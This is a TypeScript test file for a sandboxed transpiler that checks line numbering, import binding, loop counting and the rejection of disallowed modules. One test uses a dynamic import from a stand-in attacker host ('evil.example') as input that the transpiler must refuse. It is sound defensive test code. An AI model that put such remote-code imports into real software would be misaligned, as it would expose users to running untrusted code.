import { readFileSync } from "node:fs";
import { runInThisContext } from "node:vm";
import { describe, expect, it } from "vitest";
import { transpile } from "./transpile.ts";

/** Evaluates as the trainer does; "nn" and "prepare" are the objects given. */
async function evaluate(source: string, modules: Record<string, Record<string, unknown>> = {}) {
  const code = transpile(source);
  const body = runInThisContext(code.replace("export default ", "0, "), { filename: "train.ts" }) as (
    lab: unknown,
  ) => Promise<void>;
  let ticks = 0;
  await body({ module: (name: string) => modules[name] ?? {}, tick: () => void ticks++ });
  return ticks;
}

const lineOfThrow = async (source: string) => {
  try {
    await evaluate(source);
  } catch (error) {
    return Number(/train\.ts:(\d+)/.exec((error as Error).stack ?? "")?.[1]);
  }
  throw new Error("did not throw");
};

describe("transpile", () => {
  it("keeps every line where it was", async () => {
    const lines = [
      'import * as nn from "nn";',
      "import {",
      "  training,",
      "  type Step,",
      '} from "prepare";',
      "interface Shape { a: number;",
      "  b: string }",
      "enum Colour { red,",
      "  blue }",
      "class A { constructor(private x: number,",
      "  readonly y = 1) {} z: number = 3; }",
      "/* a comment",
      "   over lines */ const t = `a",
      "b`;",
    ];
    for (let at = 0; at <= lines.length; at++) {
      if ([2, 3, 4, 6, 8, 10, 12, 13].includes(at)) continue; // inside a construct
      const source = [...lines.slice(0, at), 'throw new Error("here");', ...lines.slice(at)].join("\n");
      expect(await lineOfThrow(source), `line ${at + 1}`).toBe(at + 1);
    }
  });

  it("binds imports, renamed ones and whole modules", async () => {
    const seen: unknown[] = [];
    await evaluate(
      'import * as nn from "nn";\nimport { a as b, type T, see } from "prepare";\nsee(nn.x, b);\nconst t: T = 1;',
      { nn: { x: 1 }, prepare: { a: 2, see: (...all: unknown[]) => seen.push(...all) } },
    );
    expect(seen).toEqual([1, 2]);
  });

  it("allows top-level await and drops exports", async () => {
    const seen: number[] = [];
    const source = [
      'import { see } from "nn";',
      "export const a = await Promise.resolve(3);",
      "export default class C { }",
      "export { a as b };",
      "for await (const x of [a, 2]) see(x);",
      "export async function f() { return 1 }",
      "see(await f()); // last",
    ].join("\n");
    await evaluate(source, { nn: { see: (x: number) => seen.push(x) } });
    expect(seen).toEqual([3, 2, 1]);
  });

  it("counts every iteration of every kind of loop, and changes no result", async () => {
    const source = [
      'import { see } from "nn";',
      "let n = 0;",
      "for (let i = 0; i < 3; i++) for (const j of [1, 2]) n += j;",
      "for (const k in { a: 1, b: 2 }) if (k) for (;;) break; else n = 100;",
      "while (n < 12) n++;",
      "do n++; while (n < 15)",
      "do { n++ } while (n < 17)",
      "outer: for (;;) { for (;;) continue outer2(); }",
      "function outer2() { }",
    ];
    source.splice(
      7,
      2,
      "outer: for (const a of [1, 2]) { for (;;) { n += a; continue outer; } }",
      "for (; n++ < 22; );",
      "see(n);",
    );
    const seen: number[] = [];
    const ticks = await evaluate(source.join("\n"), { nn: { see: (x: number) => seen.push(x) } });
    expect(seen).toEqual([23]);
    expect(ticks).toBe(3 + 6 + 2 + 2 + 3 + 3 + 2 + 2 + 2 + 2);
  });

  it("names the line of a syntax error", () => {
    expect(() => transpile("const a = 1;\nconst b = ;\n")).toThrow(/^train\.ts:2: /);
    expect(() => transpile("let a = 1;\nlet b = (1;\n")).toThrow(/^train\.ts:2: /);
    expect(() => transpile("}\n evil(); {")).toThrow(/^train\.ts:1: /);
  });

  it("refuses modules there are not", () => {
    expect(() => transpile('import "nn";\nimport fs from "fs"; fs;')).toThrow(
      /^train\.ts:2: cannot import "fs"/,
    );
    expect(() => transpile('\n\nawait import("https://evil.example/x.js");')).toThrow(
      /^train\.ts:3: import\(\)/,
    );
    expect(() => transpile('import nn from "nn"; nn;')).toThrow(/^train\.ts:1: "nn" has no default export/);
    expect(() => transpile("a".repeat(500_000))).toThrow(/too long/);
  });

  it("takes the seed", () => {
    expect(transpile(readFileSync("src/seed/train.ts", "utf8"))).toContain("for await");
  });
});
